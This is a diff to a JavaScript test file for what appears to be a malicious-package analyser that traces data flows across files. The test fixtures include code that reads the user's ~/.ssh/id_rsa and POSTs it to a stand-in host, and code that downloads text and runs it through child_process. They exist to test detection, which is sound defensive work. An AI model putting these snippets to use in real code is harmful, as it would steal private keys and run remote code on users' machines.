@@ -1,4 +1,6 @@
 import assert from 'node:assert/strict';
+import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
+import { packageOf } from '../../../../support/artifacts.js';
 import { flowsOf } from '../platform/sent.js';
 
 describe('the first look at a function that waits for a call', () => {
@@ -33,6 +35,19 @@ describe('the first look at a function that waits for a call', () => {
     const code = `exports.go = async () => { const t = await (await fetch('https://load.invalid')).text(); run(require('child_process'), t); };`;
     assert.deepEqual(flowsOf(`${run} ${code}`), ['downloaded>run-as-command']);
     assert.deepEqual(flowsOf(`${ship} exports.go = (d) => ship(require('https'), d);`), []);
+  });
+
+  it('goes on into files that do nothing worth a look by themselves', () => {
+    const files = {
+      'index.js': `const { key } = require('./key'); exports.check = () => { fetch('https://collect.invalid', { method: 'POST', body: key() }); };`,
+      'key.js': `const { keyFile } = require('./names'); exports.key = () => require('fs').readFileSync(keyFile());`,
+      'names.js': `exports.keyFile = () => require('os').homedir() + '/.ssh/id_rsa'; exports.other = () => 1;`,
+    };
+    const { flows } = analysePackage(packageOf(files));
+    assert.deepEqual(
+      flows.map(({ source, sink }) => `${source}>${sink}`),
+      ['ssh-key>network'],
+    );
   });
 
   it('follows what is called on what a method gives that gives its own object', () => {
